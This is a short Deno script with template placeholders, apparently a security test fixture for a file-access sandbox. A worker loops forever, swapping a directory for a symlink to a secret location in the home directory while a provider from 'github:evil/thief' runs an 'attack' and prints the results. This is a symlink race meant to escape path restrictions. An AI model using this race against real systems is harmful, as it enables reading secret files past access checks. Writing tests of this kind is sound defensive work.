Deno.mkdirSync('own/slot', { recursive: true });
Deno.writeTextFileSync('own/slot/free.txt', 'free');

// Another program, played by a worker here, swaps a folder for a link to what is secret and back.
import { getProvider } from 'prizm';
const swap = new Worker(URL.createObjectURL(new Blob([`
  const { own, home } = ${JSON.stringify({ own: '{{dir}}/own', home: '{{home}}' })};
  postMessage('started');
  for (;;) {
    Deno.renameSync(own + '/slot', own + '/kept');
    Deno.symlinkSync(home + '/slot', own + '/slot');
    Deno.removeSync(own + '/slot');
    Deno.renameSync(own + '/kept', own + '/slot');
  }
`])), { type: 'module' });
await new Promise((resolve) => swap.onmessage = resolve);
const provider: any = await getProvider('github:evil/thief');
for (const line of await provider.attack({ dir: '{{dir}}' })) console.log(line);
swap.terminate();
Deno.exit(0);
